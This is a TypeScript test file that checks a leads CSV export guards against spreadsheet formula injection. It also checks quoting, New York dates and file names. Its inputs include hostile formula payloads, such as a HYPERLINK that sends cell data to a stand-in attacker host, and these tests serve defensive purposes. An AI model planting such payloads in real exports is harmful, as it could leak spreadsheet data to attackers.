import { describe, expect, it } from 'vitest';
import { parseCsv } from '../testing/csv.ts';
import { csvCell, leadsCsvFilename, leadsToCsv, type CsvLead } from './csv.ts';

const lead = (overrides: Partial<CsvLead> = {}): CsvLead => ({
  name: 'Jordan Rivera',
  email: 'jordan@example.com',
  phone: null,
  company: null,
  serviceType: 'Real Estate',
  status: 'in_progress',
  isSocialEquityApplicant: false,
  message: 'Hello there, friends.',
  locale: 'en',
  createdAt: new Date('2026-11-21T14:03:00Z'),
  ...overrides,
});

describe('csvCell', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example","click")',
      `"'=HYPERLINK(""http://evil.example"",""click"")"`,
    ],
    ['+1', `"'+1"`],
    ['-2', `"'-2"`],
    ['@SUM(1)', `"'@SUM(1)"`],
    ['\tleading tab', `"'\tleading tab"`],
    ['\rleading CR', `"'\rleading CR"`],
    ['Acme;=1+1;', `"Acme;'=1+1;"`],
    ['Acme,+1', `"Acme,'+1"`],
    ['line one\n=cmd', `"line one\n'=cmd"`],
    ['line one\r\n@cmd', `"line one\r\n'@cmd"`],
    ['a, b', '"a, b"'],
    ['say "hi"', '"say ""hi"""'],
    ['line one\r\nline two', '"line one\r\nline two"'],
    ['Zoë 東京', '"Zoë 東京"'],
    ['plain', '"plain"'],
    ['', '""'],
  ])('writes %j as %j', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it('leaves formula characters alone when they are not first in a cell or line', () => {
    expect(csvCell('a=b+c-d@e')).toBe('"a=b+c-d@e"');
  });
});

describe('leadsToCsv', () => {
  it('starts with a BOM, has the required columns and CRLF rows, labels and Yes/No', () => {
    const csv = leadsToCsv([
      lead({
        isSocialEquityApplicant: true,
        phone: '413-555-0100',
        company: 'Acme',
        locale: 'es',
      }),
    ]);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(parseCsv(csv.slice(1))).toEqual([
      [
        'Date',
        'Name',
        'Email',
        'Phone',
        'Company',
        'Service',
        'Status',
        'Social Equity',
        'Message',
        'Language',
      ],
      [
        '2026-11-21 09:03',
        'Jordan Rivera',
        'jordan@example.com',
        '413-555-0100',
        'Acme',
        'Real Estate',
        'In Progress',
        'Yes',
        'Hello there, friends.',
        'es',
      ],
    ]);
  });

  it('round-trips hostile values cell by cell, neutralising formulas', () => {
    const hostile = lead({
      name: '=HYPERLINK("http://evil.example?x="&A1,"Open")',
      email: '@SUM(1)@example.com',
      phone: '+1 413 555 0100',
      company: '-2+3',
      message: 'Line 1, with "quotes"\r\nLine 2\nZoë 東京',
      status: 'mystery',
    });
    const [, row] = parseCsv(leadsToCsv([hostile]).slice(1));
    expect(row).toEqual([
      '2026-11-21 09:03',
      `'=HYPERLINK("http://evil.example?x="&A1,"Open")`,
      "'@SUM(1)@example.com",
      "'+1 413 555 0100",
      "'-2+3",
      'Real Estate',
      'New',
      'No',
      'Line 1, with "quotes"\r\nLine 2\nZoë 東京',
      'en',
    ]);
    // No cell of the data row begins with a character a spreadsheet would evaluate.
    for (const cell of row ?? []) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  // Issue 13, item 4: `Acme;=1+1;` was written unquoted, a live formula where cells split on `;`.
  it('no cell starts a formula whether the file is split on "," or ";"', () => {
    const hostile = [
      'Acme;=1+1;',
      'x;+SUM(A1);-1;@A1',
      'a,=1',
      'one\n=2\r\n+3',
      'p;\tq;\rr',
      '"=q";=x',
    ];
    const csv = leadsToCsv(
      hostile.map((text) => lead({ name: text, company: text, message: text, phone: text })),
    ).slice(1);
    for (const delimiter of [',', ';'] as const) {
      const rows = parseCsv(csv, delimiter);
      // Also a naive split that knows nothing of quotes, line by line.
      const naive = csv.split(/\r\n|\n|\r/).map((line) => line.split(delimiter));
      // The naive split keeps the quote that opens a cell; a spreadsheet drops it.
      const cells = [...rows.flat(), ...naive.flat().map((cell) => cell.replace(/^"/, ''))];
      for (const cell of cells) {
        expect(cell, `${delimiter} ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
  });

  it('dates rows in New York time, so an evening lead keeps its own day', () => {
    const rowDates = (iso: string) =>
      parseCsv(leadsToCsv([lead({ createdAt: new Date(iso) })]).slice(1))[1]?.[0];
    // 23:30 EST on 21 Nov is already 22 Nov in UTC.
    expect(rowDates('2026-11-22T04:30:00Z')).toBe('2026-11-21 23:30');
    expect(rowDates('2026-11-22T05:00:00Z')).toBe('2026-11-22 00:00');
    // Summer time: 23:59 EDT on 4 July.
    expect(rowDates('2026-07-05T03:59:00Z')).toBe('2026-07-04 23:59');
  });

  it('names the file with the New York date, and says when the export is filtered', () => {
    expect(leadsCsvFilename(new Date('2026-11-21T23:59:00Z'))).toBe('leads-2026-11-21.csv');
    expect(leadsCsvFilename(new Date('2026-11-22T03:00:00Z'))).toBe('leads-2026-11-21.csv');
    expect(leadsCsvFilename(new Date('2026-11-22T03:00:00Z'), true)).toBe(
      'leads-filtered-2026-11-21.csv',
    );
  });
});
